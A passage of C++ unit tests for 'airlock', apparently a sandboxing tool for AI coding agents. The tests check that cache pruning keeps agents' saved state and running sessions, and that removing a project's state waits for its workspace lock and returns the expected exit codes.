  EXPECT_TRUE(fs::exists(cache + "/npm/pkg@1.0.0.tgz")) << "pruned while a build held the lock";
  npmLock.reset();
  all = airlock({"system", "prune", "--all", "-f"}, elsewhere);
  ASSERT_EQ(all.exitCode, 0) << all.err;
  EXPECT_FALSE(fs::exists(cache + "/npm/pkg@1.0.0.tgz"));
  EXPECT_FALSE(fs::exists(cache + "/npm/cache"));
  EXPECT_TRUE(fs::exists(data + "/airlock/state/claude-code/0123456789abcdef/home/.claude/history.jsonl"))
      << "prune removed an agent's saved state";
  EXPECT_TRUE(fs::exists(running + "/snapshot/file.txt")) << "a running session was pruned by --all";
}

// `airlock state rm` takes the project's workspace lock: while a session
// runs there (it saves the state when its agent exits) the state stays,
// exit 73; afterwards it goes (issue 16, item 4).
TEST_F(SessionReview, StateRmWaitsForNoSessionAndRemovesOneProjectsState) {
  env["XDG_DATA_HOME"] = root + "/data";
  const std::string state = root + "/data/airlock/state/claude-code/" + sha256Hex(workspace).substr(0, 16);
  writeFile(state + "/home/.claude/a.jsonl", "{}\n");
  writeFile(state + "/project", workspace + "\n");
  fs::create_directories(xdg + "/airlock/locks");
  Fd held(::open(session::lockPathFor(xdg + "/airlock", workspace).c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600));
  ASSERT_TRUE(held);
  ASSERT_EQ(::flock(held.get(), LOCK_SH), 0);  // as a running session holds it
  auto busy = airlock({"state", "rm", "claude-code", "-w", workspace}, elsewhere);
  EXPECT_EQ(busy.exitCode, 73) << busy.err;
  EXPECT_NE(busy.err.find("a session is running"), std::string::npos) << busy.err;
  EXPECT_TRUE(fs::exists(state + "/home/.claude/a.jsonl"));
  held.reset();
  auto ls = airlock({"state", "ls"}, elsewhere);
  EXPECT_NE(ls.out.find(workspace), std::string::npos) << ls.out << ls.err;
  auto rm = airlock({"state", "rm", "claude-code", "-w", workspace}, elsewhere);
  EXPECT_EQ(rm.exitCode, 0) << rm.err;
  EXPECT_FALSE(fs::exists(state));
  auto again = airlock({"state", "rm", "claude-code", "-w", workspace}, elsewhere);
  EXPECT_EQ(again.exitCode, 64) << again.err;
  auto both = airlock({"state", "rm", "claude-code", "-w", workspace, "--all"}, elsewhere);
  EXPECT_EQ(both.exitCode, 64) << both.err;
}

}  // namespace
}  // namespace airlock::test
